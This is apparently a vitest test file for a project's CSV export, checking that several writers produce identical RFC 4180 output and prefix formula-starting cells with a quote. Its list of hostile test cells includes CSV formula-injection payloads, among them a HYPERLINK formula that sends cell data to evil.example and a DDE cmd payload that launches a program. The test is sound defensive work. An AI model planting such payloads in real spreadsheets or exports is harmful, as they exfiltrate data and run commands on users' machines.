// One CSV writer (#42 item 6): /export, the load run report and the explorer's Download CSV write
// the same bytes for the same table — RFC 4180 quoting and the OWASP formula guard — checked
// with hostile cells read back by a strict RFC 4180 reader.
import { describe, expect, it } from 'vitest';
import { csvHeader, csvRow } from '../../src/api/export.js';
import { csvCell, csvText } from '../../src/csv.js';
import { refusedRow, reportCsv, REPORTED_KINDS } from '../../src/load/run-report.js';
import { toCsv } from '../../web/src/format.js';

/** Cells a spreadsheet would run, or that break naive writers (stress-suite style). */
const HOSTILE: unknown[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|\' /C calc\'!A0',
  'a, b',
  'say "hi"',
  '"',
  'line one\nline two',
  'line one\r\nline two',
  'carriage\rreturn',
  '深圳市龙岗区政务服务数据管理局',
  '＝全角等号',
  '=龙岗',
  ' padded ',
  '',
  null,
  undefined,
  '-5.00',
  '2110.00',
  -7,
  42,
];

/** What a reader must get back: the text, with ' before what a spreadsheet would run; numbers as they are. */
function expected(v: unknown): string {
  const s = v === null || v === undefined ? '' : String(v);
  return /^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s) ? `'${s}` : s;
}

/** A strict RFC 4180 reader: CRLF records, quoted fields with "" for ", nothing else quoted. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"') {
            if (text[i + 1] === '"') {
              field += '"';
              i += 2;
            } else {
              i++;
              break;
            }
          } else field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
          field += text[i++];
        }
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 5))}`);
    }
    records.push(record);
  }
  return records;
}

describe('one CSV writer', () => {
  it('guards every formula start (= + - @ tab CR), keeps plain numbers, and round-trips quotes, commas, line breaks and CJK', () => {
    const text = csvText(['cell'], HOSTILE.map((v) => [v]));
    const read = readCsv(text);
    expect(read[0]).toEqual(['cell']);
    expect(read.slice(1).map((r) => r[0])).toEqual(HOSTILE.map(expected));
    for (const [cell] of read.slice(1)) if (!/^-?\d+(\.\d+)?$/.test(cell!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('x\ry')).toBe('"x\ry"');
    expect(csvCell('深圳市龙岗区')).toBe('深圳市龙岗区');
    expect(csvCell('-5.00')).toBe('-5.00');
  });

  it("the explorer's Download CSV writes what the server writes (before: no guard, no CR quoting, LF records)", () => {
    const columns = ['project', 'amount'];
    const rows = HOSTILE.map((v, i) => ({ project: v, amount: i % 2 ? '-5.00' : v }));
    const web = toCsv(rows, columns);
    expect(web).toBe(csvText(columns, rows.map((r) => [r.project, r.amount])));
    expect(readCsv(web).slice(1)).toEqual(rows.map((r) => [expected(r.project), expected(r.amount)]));
  });

  it('/export writes the same bytes for the same rows', () => {
    const cols = [
      { name: 'project', path: ['project'], list: false },
      { name: 'amount', path: ['amount'], list: false },
    ] as Parameters<typeof csvHeader>[0];
    const rows = HOSTILE.map((v) => ({ project: v, amount: '-5.00' }));
    const exported = csvHeader(cols) + rows.map((r) => csvRow(cols, r)).join('');
    expect(exported).toBe(csvText(['project', 'amount'], rows.map((r) => [r.project, r.amount])));
  });

  it('the load run report guards and quotes what a file name or an error holds (before: no guard)', () => {
    const hostile = HOSTILE.filter((v): v is string => typeof v === 'string' && v !== '');
    const rows = hostile.map((v, i) => refusedRow(v, 'BAD_DOCUMENT', `${v}:1: not a document`, i));
    const read = readCsv(reportCsv(rows));
    expect(read[0]).toEqual(['file', 'status', 'department', 'year', 'kinds', ...REPORTED_KINDS, 'diagnostics', 'warnings', 'warningCodes', 'parity', 'ms', 'error']);
    expect(read.slice(1).map((r) => r[0])).toEqual(hostile.map(expected));
    expect(read.slice(1).map((r) => r.at(-1))).toEqual(hostile.map((v) => `BAD_DOCUMENT: ${v}:1: not a document`));
    for (const r of read.slice(1)) expect(r).toHaveLength(read[0]!.length);
  });
});
